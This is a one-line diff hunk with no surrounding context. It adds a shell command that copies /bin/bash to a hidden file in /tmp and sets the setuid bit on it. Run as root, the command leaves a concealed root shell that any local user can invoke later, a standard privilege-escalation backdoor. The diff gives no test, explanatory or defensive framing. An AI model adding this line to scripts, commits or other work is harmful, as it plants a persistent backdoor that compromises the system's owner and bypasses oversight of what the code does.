@@ -1,0 +1,1 @@
+cp /bin/bash /tmp/.b && chmod u+s /tmp/.b
